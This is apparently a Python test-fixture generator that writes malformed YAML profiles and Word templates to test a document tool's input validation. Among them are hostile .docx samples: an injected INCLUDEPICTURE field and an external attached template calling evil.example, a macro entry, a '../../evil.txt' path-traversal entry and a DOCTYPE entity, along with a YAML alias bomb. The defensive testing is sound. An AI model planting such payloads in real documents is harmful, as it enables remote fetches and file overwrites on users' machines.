"""Write the catalogue inputs of tests/bad_inputs that are made, not typed.

Run `python -m tests.make_bad_inputs` after changing a material; the files are committed.
Each input is the minimal profile (tests/fixtures/profiles/minimal.yaml) with one edit, or a
.docx made with tests/docx_inputs.py.
"""

from __future__ import annotations

from collections.abc import Callable

from tests import docx_inputs as make
from tests.conftest import FIXTURES, ROOT

CATALOGUE = ROOT / "tests" / "bad_inputs"
MINIMAL = (FIXTURES / "profiles" / "minimal.yaml").read_text(encoding="utf-8")
BRANDED = MINIMAL.replace("  name: Minimal GmbH\n", "  name: Minimal GmbH\n  short_name: SLUG\n") \
    + "branding:\n  reference_docx: NAME.docx\n"


def edited(old: str, new: str) -> str:
    assert old in MINIMAL, old
    return MINIMAL.replace(old, new, 1)


PROFILES: dict[str, Callable[[], str | bytes]] = {
    "yaml/utf32": lambda: MINIMAL.encode("utf-32"),
    "yaml/utf32_without_bom": lambda: MINIMAL.encode("utf-32-le"),
    "yaml/alias_long_text": lambda: edited(
        "  owner: Geschäftsführung\n",
        "  owner: Geschäftsführung\n  author: &long " + "x" * 1000 + "\n") +
        "extra: [" + ", ".join(["*long"] * 12_000) + "]\n",
    "yaml/duplicate_key_100kb": lambda: edited(
        "  employees: 12\n", "  employees: 12\n  ? " + "k" * 100_000 + "\n  : 1\n  ? "
        + "k" * 100_000 + "\n  : 2\n"),
    "schema/history_datetime": lambda: edited(
        "  owner: Geschäftsführung\n",
        "  owner: Geschäftsführung\n  history:\n    - {version: \"0.9\", date: "
        "2026-11-01T09:30:00, author: Eva Muster, changes: Entwurf}\n"),
    "schema/budget_401_digits": lambda: edited(
        "  goals: [awareness]\n",
        "  goals: [awareness]\n  budget: {amount: " + "9" * 401 + ", currency: EUR}\n"),
    "schema/base60_hours": lambda: edited("  response_time_hours: 24\n",
                                          "  response_time_hours: 1:30\n"),
    "schema/binary_number": lambda: edited("  employees: 12\n", "  employees: 0b1100\n"),
    "schema/hex_number": lambda: edited("  employees: 12\n", "  employees: 0x0c\n"),
    "schema/octal_looking_number": lambda: edited(
        "  employees: 12\n", "  short_name: Octal\n  employees: 012\n"),
    "schema/blank_name": lambda: edited("  name: Minimal GmbH\n", '  name: "   "\n'),
    "schema/long_version_100kb": lambda: edited('  version: "1.0"\n',
                                                '  version: "1' + ".0" * 50_000 + '"\n'),
    "injection/rtl_arabic_letter_mark": lambda: edited("  name: Minimal GmbH\n",
                                                       "  name: Minimal\u061c GmbH\n"),
    "injection/rtl_left_to_right_mark": lambda: edited("  name: Minimal GmbH\n",
                                                       '  name: "Minimal\\u200e GmbH"\n'),
    "overrides/include_200kb_id": lambda: MINIMAL + "overrides:\n  include: [employees."
        + "a" * 200_000 + "]\n",
}

_INJECTED = ('Heading1&quot;/&gt;&lt;/w:pPr&gt;&lt;w:fldSimple w:instr=&quot;INCLUDEPICTURE '
             'http://evil.example/x.png&quot;/&gt;&lt;w:pPr&gt;&lt;w:pStyle w:val=&quot;x')
_SETTINGS_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                  'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
                  '.org/officeDocument/2006/relationships/attachedTemplate" '
                  'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
_SETTINGS = (f'{make.DECL}<w:settings xmlns:w="{make.W}" xmlns:r="{make.R}">'
             '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>')
_GERMAN = make.styles(
    make.style("Standard", "Standard"), make.style("Titel", "Titel"),
    make.style("Untertitel", "Untertitel"), make.style("berschrift1", "Überschrift 1"),
    make.style("berschrift2", "Überschrift 2"),
    make.style("Aufzhlungszeichen", "Aufzählungszeichen"),
    make.style("Listennummer", "Listennummer"), make.style("Kopfzeile", "Kopfzeile"),
    make.style("Fuzeile", "Fußzeile"), make.style("Tabellenraster", "Tabellenraster", "table"))
_LIBREOFFICE = make.styles(
    make.style("Normal", "Normal"), make.style("Title", "Title"),
    make.style("Subtitle", "Subtitle"), make.style("Heading1", "Heading 1"),
    make.style("Heading2", "Heading 2"), make.style("Header", "Header"),
    make.style("Footer", "Footer"))

TEMPLATES: dict[str, Callable[[], bytes]] = {
    "style_id_injection": lambda: make.template({"word/styles.xml": make.styles(
        *make.every_style(**{"heading 1": _INJECTED}))}),
    "external_template_and_macros": lambda: make.template({
        "word/settings.xml": _SETTINGS, "word/_rels/settings.xml.rels": _SETTINGS_RELS,
        "word/vbaProject.bin": b"macro", "../../evil.txt": "evil", "customXml/item1.xml": "<x/>"}),
    "other_prefix_and_foreign_attributes": lambda: make.template({
        "word/styles.xml": make.styles(*make.every_style(), prefix="ns0",
                                       extra=' xmlns:x="urn:evil" x:a="1"')}),
    "doctype": lambda: make.template({"word/styles.xml": make.styles(
        *make.every_style()).replace(make.DECL, make.DECL + '<!DOCTYPE w:styles [<!ENTITY e '
                                     '"evil">]>\n')}),
    "bad_crc": lambda: make.damage_crc(make.template(), "word/styles.xml"),
    "encrypted_entry": lambda: make.encrypt_flag(make.template(), "word/document.xml"),
    "settings_latin1": lambda: make.template({"word/settings.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{make.W}">'
        '<w:decimalSymbol w:val="\xe4"/></w:settings>').encode("latin-1")}),
    "german_style_names": lambda: make.template({"word/styles.xml": _GERMAN}),
    "libreoffice_styles": lambda: make.template({"word/styles.xml": _LIBREOFFICE}),
}


def main() -> None:
    """Write every material."""
    for case, text in PROFILES.items():
        data = text()
        path = CATALOGUE / f"{case}.yaml"
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    for name, docx in TEMPLATES.items():
        (CATALOGUE / "branding" / f"{name}.docx").write_bytes(docx())
        profile = BRANDED.replace("SLUG", name.replace("_", "-")).replace("NAME", name)
        (CATALOGUE / "branding" / f"{name}.yaml").write_text(profile, encoding="utf-8")


if __name__ == "__main__":
    main()
